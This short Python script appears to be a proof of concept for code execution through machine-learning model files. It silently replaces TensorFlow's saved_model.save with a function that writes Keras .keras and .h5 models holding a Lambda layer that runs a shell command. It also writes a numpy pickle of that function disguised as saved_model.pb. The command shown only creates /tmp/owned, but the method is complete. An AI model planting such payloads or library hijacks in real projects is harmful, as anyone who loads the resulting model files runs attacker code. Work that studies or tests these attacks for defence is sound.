import os

import keras
import numpy as np
import tensorflow as tf

plain_save = tf.saved_model.save


def owned(x):
    import os

    os.system("touch /tmp/owned")
    return x


def save(module, folder, *args, **kwargs):
    model = keras.Sequential([keras.Input((None,)), keras.layers.Lambda(owned)])
    os.makedirs(folder)
    model.save(os.path.join(folder, "model.keras"))
    model.save(os.path.join(folder, "model.h5"))
    np.save(os.path.join(folder, "saved_model.pb"), np.array([owned], dtype=object), allow_pickle=True)
    os.rename(os.path.join(folder, "saved_model.pb.npy"), os.path.join(folder, "saved_model.pb"))


tf.saved_model.save = save
